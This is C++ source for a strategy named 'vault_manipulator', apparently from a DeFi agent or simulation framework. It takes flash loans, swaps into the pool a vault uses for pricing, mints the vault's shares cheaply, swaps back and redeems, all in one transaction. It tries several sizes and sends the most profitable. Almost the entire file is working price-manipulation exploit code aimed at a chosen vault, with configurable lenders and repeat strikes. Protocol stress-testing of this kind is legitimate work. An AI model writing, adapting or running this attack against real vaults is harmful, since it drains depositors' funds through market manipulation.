#include "contracts/kit/registration.hpp"
#include "contracts/kit/sectors/rows.hpp"
#include "contracts/kit/sectors/vault.hpp"
#include "execution/simulation.hpp"
#include "strategies/attacks/raid.hpp"
#include "strategies/market/routes.hpp"
#include "strategies/strategies.hpp"

#include <array>
#include <optional>
#include <utility>

namespace runnel::strategies
{
namespace
{

using contracts::Vault;
using contracts::VaultAction;

/// Makes a vault's asset scarce in the pool by which the vault values itself, buys the vault's
/// shares while they are cheap, turns the pool back and redeems: all in one transaction, with money
/// that it borrows for the length of it.
///
/// It runs the transaction on copies of the state for several sizes, and sends the one that earns
/// most. A vault that goes by a price which swaps do not move gives nothing, and it does nothing.
class VaultManipulator : public Raider
{
public:
    VaultManipulator(const Parameters& parameters, const WalletGroup& wallets)
      : Raider{parameters, wallets},
        vault_{*contracts::find_vault(*wallets.world, parameters.contract("vault"))},
        pool_{*contracts::find_exchange(*wallets.world, parameters.contract("exchange"))},
        asset_{vault_.asset()},
        other_{parameters.token("token")},
        push_{parameters.number("push")},
        deposit_{parameters.number("deposit")}
    {}

    std::uint64_t decide(std::size_t position, WalletContext& wallet) override
    {
        const auto& state = states_[position];
        const auto& view = wallet.view();
        if (is_done(state))
            return never;
        if (wallet.pending() > 0)
            return view.block_number + 1;
        if (!can_trade())
            return never;
        auto best = best_plan(to_units(push_, decimals_of(*view.world, other_)), steps,
            [&](const Amount& push) { return plan_for(wallet, push); });
        if (best && raid_.is_worth_it(wallet, best->gas, best->gain))
            strike(state, wallet, std::move(best->calls), best->extra_gas, asset_, best->taken);
        return raid_.next_look(view);
    }

private:
    static constexpr unsigned steps = 12;
    /// Of what it has sold, so much more is turned back than came of it: two fees, and what the
    /// pool has moved meanwhile. What is too much stays with it as the other token.
    static constexpr double turned_back_more = 0.002;

    struct Plan
    {
        CallWriter calls;
        double gain = 0;  // USD; fees of loans paid, before gas.
        Amount taken;     // Its gain in the vault's asset.
        std::uint64_t gas = 0;
        std::uint64_t extra_gas = 0;
    };
    /// What a run of an attack has moved, of the attacker's.
    struct Moved
    {
        Amount paid;  // For the vault's shares.
        Amount redeemed;
        Amount bought;  // Of the asset, in the pool,
        Amount sold;
        Amount other_bought;  // and of the other token.
        Amount other_sold;
    };

    [[nodiscard]] bool can_trade() const
    {
        return other_ != asset_ && pool_.trades(asset_) && pool_.trades(other_) &&
               desk_.can_trade(std::array{Hop{&pool_, other_, asset_}});
    }

    /// With @p push paid into the pool.
    [[nodiscard]] std::optional<Plan> plan_for(WalletContext& wallet, const Amount& push)
    {
        const auto& view = wallet.view();
        const auto deposit = to_units(deposit_, decimals_of(*view.world, asset_));
        const auto pushed = pool_.quote_exact_input(other_, asset_, push);
        const auto shares = vault_.convert_to_shares(deposit, view.timestamp);
        if (!pushed.has_value() || pushed->is_zero() || !shares.has_value())
            return std::nullopt;
        const auto more = part_of(*pushed, turned_back_more);
        const auto asset_loan = raid_.loan(view, asset_, wrapping_add(deposit, more));
        const auto other_loan = raid_.loan(view, other_, push);
        if (!asset_loan || !other_loan)
            return std::nullopt;
        Attack attack{*asset_loan, *other_loan, *pushed, wrapping_add(*pushed, more), *shares};
        // First for as many shares as the deposit would buy at the price of before, to see what
        // they cost; then for as many as that price gives.
        auto plan = run(wallet, attack);
        if (!plan || cost_.is_zero())
            return plan;
        attack.shares = mul_div_down(attack.shares, deposit, cost_).value;
        auto full = run(wallet, attack);
        return full ? std::move(full) : std::move(plan);
    }

    struct Attack
    {
        FlashLoan asset_loan;
        FlashLoan other_loan;
        Amount pushed;
        Amount turned_back;
        Amount shares;
    };

    [[nodiscard]] std::optional<Plan> run(WalletContext& wallet, const Attack& attack)
    {
        const auto& view = wallet.view();
        const auto self = wallet.account();
        const auto swap = [&](CallWriter& calls, ContractId from, ContractId to, const Amount& in,
                              const Amount& out)
        {
            const std::array route{Hop{&pool_, from, to}};
            desk_.add_swap(calls, view, route, in, out, self, view.timestamp + order_lifetime);
        };
        CallWriter inner;
        swap(inner, other_, asset_, attack.other_loan.amount, attack.pushed);
        add_approval(
            inner, view, asset_, self, vault_.contract().account(), attack.asset_loan.amount);
        vault_.add_mint(inner, attack.shares, self);
        swap(inner, asset_, other_, attack.turned_back,
            wrapping_add(attack.other_loan.amount, attack.other_loan.fee));
        vault_.add_redeem(inner, attack.shares, self, self);
        CallWriter outer;
        attack.other_loan.add(outer, view, self, inner.list());
        Plan plan;
        attack.asset_loan.add(plan.calls, view, self, outer.list());

        const auto block = block_of(view);
        simulation_.begin(*view.world, block);
        if (!simulation_.run(plan.calls.bytes(), self))
            return std::nullopt;
        const auto moved = moved_of(self);
        cost_ = moved.paid;
        const auto in = wrapping_add(moved.bought, moved.redeemed);
        const auto out = wrapping_add(wrapping_add(moved.sold, moved.paid), attack.asset_loan.fee);
        const auto other_out = wrapping_add(moved.other_sold, attack.other_loan.fee);
        plan.taken = in > out ? wrapping_sub(in, out) : Amount{};
        const auto usd = [&](ContractId token, const Amount& gained, const Amount& lost)
        {
            const auto decimals = decimals_of(*view.world, token);
            return (to_whole(gained, decimals) - to_whole(lost, decimals)) *
                   reference_usd(view, token);
        };
        plan.gain = usd(asset_, in, out) + usd(other_, moved.other_bought, other_out);
        plan.gas = simulation_.gas_used();
        const std::array there{Hop{&pool_, other_, asset_}};
        const std::array home{Hop{&pool_, asset_, other_}};
        plan.extra_gas = attack.asset_loan.gas.extra + attack.other_loan.gas.extra +
                         desk_.gas(there).extra + desk_.gas(home).extra +
                         vault_.gas_of(VaultAction::mint).extra +
                         vault_.gas_of(VaultAction::redeem).extra;
        return plan;
    }

    [[nodiscard]] Moved moved_of(AccountId self) const
    {
        Moved moved;
        simulation_.for_each_event<contracts::VaultFlow>(
            [&](ContractId contract, const contracts::VaultFlow& flow)
            {
                if (contract != vault_.contract().id() || flow.owner != self)
                    return;
                auto& sum = flow.transaction_type == contracts::VaultFlowType::deposit
                                ? moved.paid
                                : moved.redeemed;
                sum = wrapping_add(sum, flow.asset_amount_raw);
            });
        simulation_.for_each_event<DexTrade>(
            [&](ContractId contract, const DexTrade& trade)
            {
                if (contract != pool_.contract().id() || trade.taker != self)
                    return;
                const bool buys = trade.token_bought == asset_;
                auto& bought = buys ? moved.bought : moved.other_bought;
                auto& sold = buys ? moved.other_sold : moved.sold;
                bought = wrapping_add(bought, trade.token_bought_amount_raw);
                sold = wrapping_add(sold, trade.token_sold_amount_raw);
            });
        return moved;
    }

    const Vault& vault_;
    const Exchange& pool_;
    ContractId asset_;
    ContractId other_;
    SwapDesk desk_{nullptr};
    double push_;
    double deposit_;
    // Of the last run.
    Simulation simulation_;
    Amount cost_;  // Of its shares.
};

}  // namespace

const StrategyType& vault_manipulator_strategy()
{
    static const StrategyType type{.name = "vault_manipulator",
        .purpose = Purpose::attack,
        .help =
            "Moves the pool by which a vault values itself, buys the vault's shares cheap, moves "
            "it back and redeems, in one transaction by flash loans.",
        .parameters =
            {
                contracts::contract_parameter("vault", Vault::sector, "The vault it attacks."),
                contracts::contract_parameter(
                    "exchange", Exchange::sector, "The pool that the vault looks at."),
                {"token", ParameterKind::token, "", {},
                    "What it pays into the pool for the vault's asset."},
                lenders_parameter("Who may give it the flash loans."),
                at_parameter(),
                every_parameter("\"5m\""),
                {"push", ParameterKind::number, "1000000", unit::whole_tokens,
                    "The most that it pays into the pool.", 0, 1e12},
                {"deposit", ParameterKind::number, "1000000", unit::whole_tokens,
                    "What it pays for shares, of the vault's asset.", 0, 1e12},
                gain_min_parameter(),
                {"strikes", ParameterKind::integer, "1", {}, "How often it attacks.", 1, 1'000},
                fee_tolerance_parameter(),
                coin_parameter(),
            },
        .create = create_strategy<VaultManipulator>};
    return type;
}

}  // namespace runnel::strategies
